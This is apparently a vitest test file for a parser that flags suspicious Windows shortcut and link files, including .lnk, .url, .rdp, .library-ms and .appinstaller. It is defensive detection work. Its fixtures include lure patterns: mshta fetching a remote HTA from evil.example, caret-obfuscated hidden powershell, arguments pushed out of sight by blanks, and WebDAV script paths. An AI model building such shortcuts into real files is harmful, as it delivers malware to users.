import { describe, expect, test } from 'vitest';
import { readFile } from '../../../src/parse/files/read-file.ts';
import { shortcut } from '../../helpers/shortcut.ts';
import { zip } from '../../helpers/zip.ts';

const look = (bytes: Uint8Array | string, name: string) =>
  readFile({ bytes: Buffer.from(bytes), name, declaredType: '', inline: false });
const urls = (content: { links: { url: string }[] }) => content.links.map((link) => link.url);
const system = 'C:\\Windows\\System32\\';

describe('a shortcut', () => {
  test('its target and its arguments are read, and where they lead', async () => {
    const bytes = shortcut({ target: `${system}mshta.exe`, arguments: 'https://evil.example/a.hta' });
    const content = await look(bytes, 'a.lnk');
    expect(content).toMatchObject({ type: 'lnk', traits: ['shortcut-runs-command'], gaps: [] });
    expect(content.content).toContain(`${system}mshta.exe https://evil.example/a.hta`);
    expect(urls(content)).toEqual(['https://evil.example/a.hta']);
  });

  test('a command written with carets is a command', async () => {
    const bytes = shortcut({ target: 'C:\\tools\\start.exe', arguments: '/k p^ow^ershell -w hidden' });
    expect((await look(bytes, 'a.lnk')).traits).toEqual(['shortcut-runs-command']);
  });

  test('blanks that push the command out of sight', async () => {
    const bytes = shortcut({ target: `${system}cmd.exe`, arguments: `${' '.repeat(300)}/c calc` });
    expect((await look(bytes, 'a.lnk')).traits).toEqual(['shortcut-runs-command', 'arguments-out-of-sight']);
  });

  test('the icon of a document on something else', async () => {
    const bytes = shortcut({ target: `${system}cmd.exe`, icon: 'C:\\Program Files\\Adobe\\Acrobat\\Acrobat.exe' });
    expect((await look(bytes, 'a.lnk')).traits).toContain('document-icon');
  });

  test('a share is a link', async () => {
    const content = await look(shortcut({ target: '\\\\198.51.100.7\\share\\run.exe' }), 'a.lnk');
    expect(urls(content)).toContain('\\\\198.51.100.7\\share\\run.exe');
  });

  test('a script behind the fields is found', async () => {
    const behind = '<script>new ActiveXObject("WScript.Shell")</script> powershell https://evil.example/b';
    const content = await look(shortcut({ target: 'C:\\a.exe', behind }), 'a.lnk');
    expect(content.traits).toEqual(['shortcut-runs-command']);
    expect(urls(content)).toEqual(['https://evil.example/b']);
  });

  test('one to a document is no more than a shortcut', async () => {
    const bytes = shortcut({ target: 'C:\\Users\\ada\\Minutes of March.docx', icon: 'C:\\icons\\word.docx' });
    expect((await look(bytes, 'a.lnk')).traits).toEqual([]);
  });

  test('one in an archive tells as much', async () => {
    const bytes = zip([{ name: 'a.pdf.lnk', content: shortcut({ target: `${system}cmd.exe` }) }]);
    expect((await look(bytes, 'a.zip')).traits).toEqual(['shortcut-runs-command', 'program-inside']);
  });

  test('a broken one is read as words', async () => {
    const bytes = shortcut({ target: `${system}cmd.exe`, arguments: '/c calc' });
    for (let cut = 0; cut < bytes.length; cut += 7) await look(bytes.subarray(0, cut), 'a.lnk');
    bytes.writeUInt32LE(0xffffffff, 20);
    expect((await look(bytes, 'a.lnk')).gaps).toEqual([]);
  });
});

describe('files that only point somewhere', () => {
  const cases: [name: string, source: string, url: string][] = [
    ['a.url', '[InternetShortcut]\r\nURL=https://evil.example/a', 'https://evil.example/a'],
    ['a.url', '[InternetShortcut]\r\nurl = file://192.0.2.7@80/dav/run.vbs', 'file://192.0.2.7@80/dav/run.vbs'],
    ['a.website', '[InternetShortcut]\r\nURL=search-ms:query=a&crumb=x', 'search-ms:query=a&crumb=x'],
    ['a.rdp', 'screen mode id:i:2\r\nfull address:s:desk.evil.example:3389', 'rdp://desk.evil.example:3389'],
    [
      'a.library-ms',
      '<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><url>\\\\192.0.2.7\\dav</url></libraryDescription>',
      '\\\\192.0.2.7\\dav',
    ],
    [
      'a.appinstaller',
      '<?xml version="1.0"?><AppInstaller Uri="https://evil.example/a.appinstaller"/>',
      'https://evil.example/a.appinstaller',
    ],
  ];
  test.each(cases)('%s: %s', async (name, source, url) => {
    const content = await look(source, name);
    expect(content.type).toBe(name.slice(2));
    expect(urls(content)).toContain(url);
  });

  test('a remote desktop of Windows is written in UTF-16', async () => {
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('full address:s:192.0.2.9', 'utf16le')]);
    expect(urls(await look(bytes, 'a.rdp'))).toEqual(['rdp://192.0.2.9']);
  });

  test('a setting that starts a command', async () => {
    const source =
      '<?xml version="1.0"?>\n<PCSettings>\n<DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></PCSettings>';
    expect((await look(source, 'a.settingcontent-ms')).traits).toEqual(['shortcut-runs-command']);
  });

  test('an icon on the own disk leads nowhere', async () => {
    const source = '[InternetShortcut]\r\nURL=https://a.example/\r\nIconFile=C:\\icons\\a.ico';
    expect(urls(await look(source, 'a.url'))).toEqual(['https://a.example/']);
  });
});
